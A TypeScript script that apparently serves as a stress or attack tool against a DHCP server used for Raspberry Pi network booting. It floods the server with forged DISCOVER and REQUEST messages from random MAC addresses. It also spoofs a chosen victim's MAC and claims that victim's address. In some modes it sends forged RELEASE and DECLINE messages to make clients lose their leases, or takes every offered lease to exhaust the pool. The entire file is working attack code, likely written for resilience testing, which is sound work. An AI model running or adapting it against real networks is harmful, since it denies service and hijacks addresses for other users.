/**
 * DHCP messages of clients that are not there, each with a MAC of its own: `dhcp-flood.ts SERVER COUNT VICTIM-MAC VICTIM-ADDRESS MODE`.
 * After COUNT of them it is under way, and goes on more slowly. MODE `mixed` is mostly DISCOVERs, and the victim's address is claimed,
 * too; `roms` plays Pi 3Bs and nothing else; `leases` wants addresses, and has others lose theirs; `takes` takes all that is offered.
 */
import { createSocket } from "node:dgram";
import { count, counted, over, ownAddress, pause, random, server, underWay, words } from "./attack.ts";
import * as forged from "./forged-dhcp.ts";

const [total = "", victimMac = "", victimAddress = "", mode = ""] = words;
/** At the gigabit's pace of a switch; all at once the socket of the attacker itself would drop them. */
const BURST = 50;

type Kind = readonly [name: string, make: (mac: Buffer) => Buffer];

const { message, pi4, wanted, from, REQUEST } = forged;
const victim = forged.macFrom(victimMac);
const inRange = () => `10.77.0.${100 + random(41)}`;

const PLAYERS: readonly Kind[] = [
	["a Pi 4", (mac) => message(mac, pi4(mac))],
	["a Pi 4", (mac) => message(mac, pi4(mac))],
	["a Pi 3B", forged.rom],
	["a PC", (mac) => message(mac, forged.pxe())],
	["plain Linux", (mac) => message(mac, `${forged.DISCOVER}370401030628`)],
];

const KINDS: Readonly<Record<string, readonly Kind[]>> = {
	mixed: [
		...PLAYERS,
		["a relayed Pi 4", (mac) => message(mac, pi4(mac), { giaddr: ownAddress(random(8)) })],
		["a Pi 4 at the victim's address", (mac) => message(mac, `${pi4(mac, REQUEST)}${wanted(victimAddress)}`)],
		["the victim with another serial", () => message(victim, forged.anotherBoard())],
		[
			"a REQUEST of plain Linux",
			(mac) => message(mac, `${REQUEST}${wanted(victimAddress)}3d0701${mac.toString("hex")}`),
		],
		["half a message", (mac) => message(mac, pi4(mac)).subarray(0, random(250))],
	],
	roms: [["a Pi 3B", forged.rom]],
	leases: [
		...PLAYERS,
		["asks for the victim's", (mac) => message(mac, `${pi4(mac, REQUEST)}${from(server)}${wanted(victimAddress)}`)],
		["had the victim's", (mac) => message(mac, `${REQUEST}${wanted(victimAddress)}`)],
		["had some", (mac) => message(mac, `${REQUEST}${wanted(inRange())}`)],
		["renews the victim's", (mac) => message(mac, REQUEST, { ciaddr: victimAddress })],
		["declines the victim's", (mac) => message(mac, `${forged.DECLINE}${from(server)}${wanted(victimAddress)}`)],
		["releases the victim's", (mac) => message(mac, `${forged.RELEASE}${from(server)}`, { ciaddr: victimAddress })],
		["declines some", (mac) => message(mac, `${forged.DECLINE}${from(server)}${wanted(inRange())}`)],
	],
	takes: [["plain Linux", (mac) => message(mac, `${forged.DISCOVER}370401030628`)]],
};

const socket = createSocket({ type: "udp4", reuseAddr: true });
await new Promise<void>((resolve) => socket.bind(68, "0.0.0.0", resolve));
socket.setBroadcast(true);
socket.on("message", (reply) => {
	count("answers");
	if (mode === "takes" && reply.length > 240) take(reply);
});

/** An OFFER is taken, whoever it is for; the victim's is not. */
function take(reply: Buffer): void {
	const mac = reply.subarray(28, 34);
	const isOffer = reply.includes(Buffer.from("63825363350102", "hex"));
	const yours = reply.subarray(16, 20).join(".");
	if (!isOffer || mac.equals(victim) || yours === "0.0.0.0") return;
	count("taken");
	const xid = reply.toString("hex", 4, 8);
	socket.send(message(mac, `${REQUEST}${from(server)}${wanted(yours)}`, { xid }), 67, "255.255.255.255");
}

const kinds = KINDS[mode] ?? [];

function sendOne(): Promise<void> {
	const [name, make] = kinds[counted("sent") % kinds.length] ?? ["nobody", () => Buffer.alloc(0)];
	const target = random(4) === 0 ? server : "255.255.255.255";
	count("sent");
	count(name);
	return new Promise((resolve) => socket.send(make(forged.anyMac()), 67, target, () => resolve()));
}

while (!over()) {
	for (let each = 0; each < BURST; each++) await sendOne();
	const isFull = counted("sent") >= Number(total);
	if (isFull && counted("sent") < Number(total) + BURST) underWay();
	await pause(isFull ? 50 : 5);
}
